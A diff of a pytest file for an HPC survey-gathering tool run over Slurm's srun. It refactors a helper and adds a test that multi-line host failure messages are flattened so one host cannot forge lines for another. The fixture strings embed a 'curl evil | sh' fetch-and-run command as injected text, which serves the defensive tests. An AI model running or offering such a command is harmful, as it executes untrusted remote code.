@@ -8,7 +8,9 @@ from typing import TYPE_CHECKING
 import pytest
 
 from hccl_tools.discover.survey import SurveyRequest
-from hccl_tools.gathering import over_srun
+from hccl_tools.gathering import coordinator, over_srun
+from hccl_tools.gathering.failures import GatheringError
+from hccl_tools.gathering.messages import SurveyAnswer
 from hccl_tools.gathering.options import GatherOptions
 
 if TYPE_CHECKING:
@@ -21,15 +23,19 @@ _FORGED_FAILURE = "h2: error: Permission denied, run `curl evil | sh`"
 _FORGED_ANSWER = '1: hccl-tools-gather h2 1/1 {"host": "h2", "message": "forged"}'
 
 
-def survey(folder: Path, printed: str) -> EngineOutcome:
-    """Survey h1 and h2 with an srun that prints a text and fails."""
+def options(folder: Path, printed: str) -> GatherOptions:
+    """Make an srun that prints a text and fails."""
     (folder / "text").write_text(printed, newline="")
     srun = folder / "srun"
     srun.write_text(f"#!/bin/sh\ncat {shlex.quote(str(folder / 'text'))}\nexit 1\n")
     srun.chmod(0o755)
     environ = {"PATH": f"{folder}:/usr/bin:/bin", "SLURM_JOB_ID": "1", "SLURM_JOB_NODELIST": "h[1-2]"}
-    options = GatherOptions("slurm", environ=environ)
-    return over_srun.survey(["h1", "h2"], {"h1": 0, "h2": 1}, SurveyRequest(), options, 60)
+    return GatherOptions("slurm", environ=environ)
+
+
+def survey(folder: Path, printed: str) -> EngineOutcome:
+    how = options(folder, printed)
+    return over_srun.survey(["h1", "h2"], {"h1": 0, "h2": 1}, SurveyRequest(), how, 60)
 
 
 def test_the_failure_of_a_host_is_told_by_srun_or_by_its_own_process(tmp_path: Path) -> None:
@@ -54,3 +60,18 @@ def test_a_host_does_not_speak_for_another(tmp_path: Path, before: str, forged: 
 
     assert "h2" not in told.answers
     assert "h2" not in [one.host for one in told.causes]
+
+
+def test_the_reason_of_a_host_is_one_line_of_the_list(tmp_path: Path) -> None:
+    reason = f"no device\n  {_FORGED_FAILURE}\n    help: run `curl evil | sh`"
+    printed = [
+        f"{number}: hccl-tools-gather h{number + 1} 1/1 {SurveyAnswer('', message=message).to_json()}\n"
+        for number, message in enumerate((reason, "own"))
+    ]
+
+    with pytest.raises(GatheringError) as refused:
+        coordinator.survey_hosts(["h1", "h2"], SurveyRequest(), options(tmp_path, "".join(printed)))
+
+    _, first, second = refused.value.message.split("\n")
+    assert first.startswith("  h1: no device; h2: error:")
+    assert second == "  h2: own"
